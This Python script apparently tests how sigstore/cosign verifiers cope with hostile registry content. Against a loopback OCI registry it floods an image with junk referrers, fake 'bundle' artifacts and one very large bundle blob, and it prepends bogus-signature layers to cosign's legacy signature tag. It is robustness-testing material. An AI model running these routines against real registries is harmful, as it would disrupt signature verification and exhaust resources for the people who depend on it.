"""Attaches junk to an image on a plain-HTTP loopback registry, with or without the referrers API.

What a stranger with the right to push can do: many referrers of other types, many that say that they are bundles, one
that is very large.
"""
import concurrent.futures
import hashlib
import http.client
import json
import threading

BUNDLE = "application/vnd.dev.sigstore.bundle.v0.3+json"
INDEX = "application/vnd.oci.image.index.v1+json"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"
EMPTY = {"mediaType": "application/vnd.oci.empty.v1+json", "digest": "sha256:" + hashlib.sha256(b"{}").hexdigest(), "size": 2}


class Repository:
    def __init__(self, image):
        name, self.digest = image.rsplit("@", 1)
        self.host, self.name = name.split("/", 1)
        self.local = threading.local()

    def call(self, method, path, body=None, kind=None, accept=None, range=None):
        connection = getattr(self.local, "connection", None) or http.client.HTTPConnection(self.host, timeout=120)
        self.local.connection = connection
        headers = {key: value for key, value in (("Content-Type", kind), ("Accept", accept), ("Content-Range", range)) if value}
        connection.request(method, path, body=body, headers=headers)
        reply = connection.getresponse()
        content = reply.read()
        return reply, content

    def push_blob(self, parts):
        """parts is bytes, or a function that returns an iterator over parts, each sent by itself."""
        digest, written = hashlib.sha256(), 0
        location = self.location(self.call("POST", f"/v2/{self.name}/blobs/uploads/", body=b"")[0])
        if callable(parts):
            for part in parts():
                digest.update(part)
                reply, content = self.call("PATCH", location, body=part, kind="application/octet-stream", range=f"{written}-{written + len(part) - 1}")
                if reply.status != 202:
                    raise RuntimeError(f"push of a part after {written} bytes: status {reply.status}: {content[:200]}")
                location, written, last = self.location(reply), written + len(part), b""
        else:
            digest.update(parts)
            last = parts
        digest = "sha256:" + digest.hexdigest()
        status = self.call("PUT", f"{location}{'&' if '?' in location else '?'}digest={digest}", body=last, kind="application/octet-stream")[0].status
        if status != 201:
            raise RuntimeError(f"push of a blob: status {status}")
        return digest

    @staticmethod
    def location(reply):
        location = reply.getheader("Location")
        return "/" + location.split("://", 1)[1].split("/", 1)[1] if "://" in location else location

    def push_manifest(self, body, reference=None, kind=MANIFEST):
        raw = json.dumps(body).encode()
        digest = "sha256:" + hashlib.sha256(raw).hexdigest()
        reply, content = self.call("PUT", f"/v2/{self.name}/manifests/{reference or digest}", body=raw, kind=kind)
        if reply.status != 201:
            raise RuntimeError(f"push of a manifest: status {reply.status}: {content[:200]}")
        return {"mediaType": kind, "digest": digest, "size": len(raw)}

    def subject(self):
        reply, raw = self.call("GET", f"/v2/{self.name}/manifests/{self.digest}", accept=f"{MANIFEST}, {INDEX}")
        return {"mediaType": reply.getheader("Content-Type"), "digest": self.digest, "size": len(raw)}

    def list_in_fallback(self, descriptors):
        """Where there is no referrers API, puts them in front of what the fallback tag lists."""
        if self.call("GET", f"/v2/{self.name}/referrers/{self.digest}")[0].status == 200:
            return
        tag = self.digest.replace(":", "-")
        reply, raw = self.call("GET", f"/v2/{self.name}/manifests/{tag}", accept=INDEX)
        index = json.loads(raw) if reply.status == 200 else {"schemaVersion": 2, "mediaType": INDEX, "manifests": []}
        index["manifests"] = descriptors + index["manifests"]
        self.push_manifest(index, tag, INDEX)


def attach(image, count, kind):
    """kind: "other" for referrers of another type, "bundle" for what claims to be a bundle and is none."""
    repository = Repository(image)
    subject = repository.subject()
    repository.push_blob(b"{}")
    media = BUNDLE if kind == "bundle" else "application/vnd.example.scan+json"

    def one(number):
        junk = json.dumps({"mediaType": media, "junk": number}).encode()
        layer = {"mediaType": media, "digest": repository.push_blob(junk), "size": len(junk)}
        annotations = {"dev.sigstore.bundle.content": "dsse-envelope", "dev.sigstore.bundle.predicateType": "https://sigstore.dev/cosign/sign/v1"} if kind == "bundle" else {"number": str(number)}
        annotations["org.opencontainers.image.created"] = "2026-01-01T00:00:00Z"
        manifest = {"schemaVersion": 2, "mediaType": MANIFEST, "artifactType": media, "config": EMPTY, "layers": [layer], "subject": subject, "annotations": annotations}
        return {**repository.push_manifest(manifest), "artifactType": media, "annotations": annotations}

    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        repository.list_in_fallback(list(pool.map(one, range(count))))


def attach_large(image, length):
    """One referrer whose layer says that it is a bundle, of so many bytes: JSON that goes on and on."""
    repository = Repository(image)
    subject = repository.subject()
    repository.push_blob(b"{}")
    head, tail, part = b'{"mediaType":"' + BUNDLE.encode() + b'","verificationMaterial":{"junk":"', b'"}}', b"A" * (8 << 20)

    def content():
        yield head
        left = length - len(head) - len(tail)
        while left > 0:
            yield part[:left]
            left -= len(part)
        yield tail

    layer = {"mediaType": BUNDLE, "digest": repository.push_blob(content), "size": length}
    manifest = {"schemaVersion": 2, "mediaType": MANIFEST, "artifactType": BUNDLE, "config": EMPTY, "layers": [layer], "subject": subject,
                "annotations": {"dev.sigstore.bundle.content": "dsse-envelope", "dev.sigstore.bundle.predicateType": "https://sigstore.dev/cosign/sign/v1"}}
    repository.list_in_fallback([{**repository.push_manifest(manifest), "artifactType": BUNDLE, "annotations": manifest["annotations"]}])


def crowd_legacy(image, count, large=0):
    """Puts junk layers in front of the good one under cosign's old tag; with `large`, one of so many bytes too."""
    repository = Repository(image)
    tag = repository.digest.replace(":", "-") + ".sig"
    reply, raw = repository.call("GET", f"/v2/{repository.name}/manifests/{tag}", accept=MANIFEST)
    if reply.status != 200:
        raise RuntimeError(f"no manifest under {tag}")
    manifest = json.loads(raw)
    kind = manifest["layers"][0]["mediaType"]

    def layer(number):
        payload = json.dumps({"critical": {"identity": {"docker-reference": repository.name}, "image": {"docker-manifest-digest": repository.digest},
                                           "type": "cosign container image signature"}, "optional": {"junk": number}}).encode()
        return {"mediaType": kind, "digest": repository.push_blob(payload), "size": len(payload),
                "annotations": {**manifest["layers"][0]["annotations"], "dev.cosignproject.cosign/signature": "MAYCAQECAQE="}}

    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        layers = list(pool.map(layer, range(count)))
    if large:
        part = b" " * (8 << 20)
        rest = [part] * (large // len(part))
        layers.insert(0, {"mediaType": kind, "digest": repository.push_blob(lambda: iter(rest)), "size": len(part) * len(rest),
                          "annotations": {"dev.cosignproject.cosign/signature": "MAYCAQECAQE="}})
    manifest["layers"] = layers + manifest["layers"]
    repository.push_manifest(manifest, tag)
